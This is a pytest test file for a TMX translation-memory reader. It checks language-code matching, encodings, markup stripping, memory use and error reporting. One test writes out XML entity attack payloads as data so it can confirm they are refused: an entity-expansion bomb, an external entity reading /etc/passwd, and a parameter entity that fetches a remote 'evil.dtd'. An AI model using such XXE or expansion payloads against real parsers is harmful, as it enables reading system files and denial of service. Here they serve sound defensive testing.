import io
import tracemalloc

import pytest

from regard.corpora.corpus import ReadReport
from regard.corpora.readers import tmx
from regard.corpora.readers.tmx import read_tmx, split_units_xml
from regard.errors import CorpusError


def unit(**texts):
    variants = (
        f'<tuv xml:lang="{code.replace("_", "-")}"><prop>x</prop><seg>{text}</seg></tuv>'
        for code, text in texts.items()
    )
    return f"<tu><note>no text</note>{''.join(variants)}</tu>"


def document(*units, before=""):
    return f'{before}<tmx version="1.4"><header/><body>{" ".join(units)}</body></tmx>'


def read(text, languages=("en", "de")):
    content = text if isinstance(text, bytes) else text.encode()
    return list(read_tmx(io.BytesIO(content), "a.tmx", languages))


def message(text, languages=("en", "de")):
    with pytest.raises(CorpusError) as caught:
        read(text, languages)
    return str(caught.value)


def test_units_with_both_languages():
    units = (unit(en="one", de="eins"), unit(en="two", fr="deux"), unit(de="drei", en="three"))
    assert read(document(*units)) == [("one", "eins"), ("three", "drei")]


@pytest.mark.parametrize("asked", [("en", "de"), ("EN", "De"), ("en-us", "de_at")])
def test_languages_match_by_their_beginning(asked):
    assert read(document(unit(en_US="one", DE_at="eins")), asked) == [("one", "eins")]


def test_a_longer_code_does_not_match_a_shorter():
    assert "none of its 1 units" in message(document(unit(en="one", de="eins")), ("en-US", "de"))


def test_a_code_does_not_match_another_that_only_begins_alike():
    assert "none of its 1 units" in message(document(unit(enm="olde", de="alt")))


def test_the_very_code_comes_first():
    text = document(unit(en_US="color", en="colour", de="Farbe"))
    assert read(text) == [("colour", "Farbe")]


@pytest.mark.parametrize("units", [unit(pt_BR="trem", pt_PT="comboio")])
def test_a_variant_is_not_its_own_translation(units):
    assert read(document(units), ("pt", "pt-BR")) == [("comboio", "trem")]


def test_old_files_say_lang():
    text = document(unit(en="one", de="eins")).replace("xml:lang", "lang")
    assert read(text) == [("one", "eins")]


def test_namespace():
    text = document(unit(en="one", de="eins")).replace("<tmx", '<tmx xmlns="urn:tmx"')
    assert read(text) == [("one", "eins")]


def test_utf16():
    text = document(unit(en="one", de="schön"), before='<?xml version="1.0" encoding="utf-16"?>')
    assert read(text.encode("utf-16")) == [("one", "schön")]


def test_native_codes_go_and_highlighted_text_stays():
    source = (
        'A <bpt i="1">&lt;b&gt;</bpt>bold<ept i="1">&lt;/b&gt;</ept> and <hi>very <ph>x</ph>high'
        '</hi> word<ph>[<sub>alt text</sub>]</ph><it pos="begin">i</it><ut>u</ut>. &amp;'
    )
    assert read(document(unit(en=source, de="B"))) == [("A bold and very high word. &", "B")]


@pytest.mark.parametrize("size", [1 << 12, 1 << 14, 1 << 15])
def test_native_codes_at_the_edge_of_what_is_read_at_once(size):
    text = document(unit(en=f"{'a' * size}<ph>code</ph>b", de="c"), unit(en="d", de="e"))
    assert read(text) == [("a" * size + "b", "c"), ("d", "e")]


def test_a_segment_may_be_empty_or_missing():
    text = document(unit(en="", de="eins"), unit(en="two", de="zwei").replace("<seg>two</seg>", ""))
    assert read(text) == [("", "eins"), ("", "zwei")]


def test_deep_nesting():
    depth = 50_000
    assert read(document(unit(en="<hi>" * depth + "x" + "</hi>" * depth, de="y"))) == [("x", "y")]


def test_naming_the_grammar_of_tmx_is_harmless():
    before = '<!DOCTYPE tmx SYSTEM "tmx14.dtd">'
    assert read(document(unit(en="one", de="eins"), before=before)) == [("one", "eins")]


BOMB = '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
FILE = '<!ENTITY a SYSTEM "file:///etc/passwd">'
PARAMETER = '<!ENTITY % a SYSTEM "http://example.com/evil.dtd"> %a;'
GRAMMAR = '<!ATTLIST tuv lang CDATA "en">'


@pytest.mark.parametrize("declared", [BOMB, FILE, PARAMETER, GRAMMAR])
def test_declarations_are_refused(declared):
    before = f'<?xml version="1.0"?>\n\n<!DOCTYPE tmx [{declared}]>'
    assert message(document(unit(en="&a;", de="&a;"), before=before)) == (
        "a.tmx: line 3: declares XML entities or other grammar in its DOCTYPE, which is refused as "
        "harmful; remove the [...] there"
    )


def test_unknown_entity():
    text = document(unit(en="a&nbsp;b", de="c"), before='<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n')
    assert message(text).startswith("a.tmx: line 2: not XML: undefined entity &nbsp;")


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("hello\nworld", 1),
        (document("\n\n<tu>", "\n</to>"), 4),
        (document(unit(en="one", de="eins"), "\n", unit(en="two\x01", de="zwei")), 2),
        (document(unit(en="one", de="eins"), "\n").removesuffix("</tmx>"), 2),
        (document(unit(en="one", de="schön")).encode("latin-1"), 1),
    ],
)
def test_not_xml(text, line):
    assert message(text).startswith(f"a.tmx: line {line}: not XML: ")


@pytest.mark.parametrize("encoding", ["gb2312", "no-such"])
@pytest.mark.parametrize("skip_bad", [False, True])
def test_an_encoding_that_no_parser_knows_is_refused(encoding, skip_bad):
    before = f'<?xml version="1.0" encoding="{encoding}"?>'
    stream = io.BytesIO(document(unit(en="one", de="eins"), before=before).encode())
    with pytest.raises(CorpusError, match="the encoding that its first line declares cannot be"):
        list(read_tmx(stream, "a.tmx", ("en", "de"), skip_bad=skip_bad))


def test_not_tmx():
    expected = "a.tmx: not a TMX file: it begins with <html>, not <tmx>"
    assert message("<html><body/></html>") == expected


def test_languages_found_are_listed():
    text = document(unit(en_US="a", fr="b"), unit(fr="c"))
    assert message(text) == (
        "a.tmx: none of its 2 units has both 'en' and 'de'; languages found: 'fr' (2), 'en-US' (1)"
    )


def test_no_units():
    assert message(document()).endswith(
        "none of its 0 units has both 'en' and 'de'; languages found: none"
    )


def test_what_has_been_read_is_freed():
    def peak(num_units):
        stream = io.BytesIO(document(unit(en="one", de="eins") * num_units).encode())
        tracemalloc.start()
        count = sum(1 for _ in read_tmx(stream, "a.tmx", ("en", "de")))
        highest = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert count == num_units
        return highest

    # the least of three: what other threads allocate meanwhile is counted, too
    assert min(peak(8000) for _ in range(3)) < 2 * min(peak(1000) for _ in range(3))


def test_units_that_lack_a_language_are_counted():
    report = ReadReport()
    units = (unit(en="one", de="eins"), unit(en="two").replace(' xml:lang="en"', ""), unit(fr="x"))
    content = io.BytesIO(document(*units).encode())
    assert list(read_tmx(content, "a.tmx", ("en", "de"), report)) == [("one", "eins")]
    assert report.messages() == [
        "a.tmx: skipped 1 units with text without language (xml:lang), the first at unit 2",
        "a.tmx: skipped 1 units without both en and de, the first at unit 3",
    ]


def test_units_that_are_not_xml_can_be_skipped():
    good = [unit(en=f"one {n}", de="eins &amp; <b>zwei</b>") for n in range(3)]
    bad = [
        unit(en="a &nbsp; b", de="c"),
        unit(en="a", de="c").removesuffix("</tu>"),
        unit(en="<i>"),
    ]
    comment = f"<!-- {unit(en='old', de='alt')} -->"
    parts = [good[0], *bad, comment, good[1], good[2]]
    content = document(*(f"\n{part}" for part in parts), before='<?xml version="1.0"?>\n').encode()
    report = ReadReport()
    found = list(read_tmx(io.BytesIO(content), "a", ("en", "de"), report, skip_bad=True))
    assert found == [(f"one {n}", "eins & zwei") for n in range(3)]
    assert report.messages() == ["a: skipped 3 units that are not XML, the first at line 4"]
    assert "not XML" in message(content)


@pytest.mark.parametrize("block", [1, 3, 1000])
def test_units_are_found_wherever_reading_stops(monkeypatch, block):
    monkeypatch.setattr(tmx, "BLOCK", block)
    text = b'<?xml version="1.0"?>\n<tmx v="1">\n<tu>a\n</tu>\n'
    text += b'<!-- <tu>x</tu> --><tu n="2"><tuv/></tu>'
    found = list(split_units_xml(io.BytesIO(text)))
    head = b'<?xml version="1.0"?><tmx v="1">'
    assert found == [
        (head + b"<tu>a\n</tu></tmx>", 3),
        (head + b'<tu n="2"><tuv/></tu></tmx>', 5),
    ]


def test_a_unit_that_never_ends_is_not_kept_in_memory(monkeypatch):
    monkeypatch.setattr(tmx, "BLOCK", 16)
    monkeypatch.setenv("REGARD_LIMITS", "line=100")
    text = b"<tmx><tu>" + b"x" * 1000 + b"<tu>a</tu>"
    assert len(list(split_units_xml(io.BytesIO(text)))) == 1
    assert not list(split_units_xml(io.BytesIO(b"x" * 1000)))
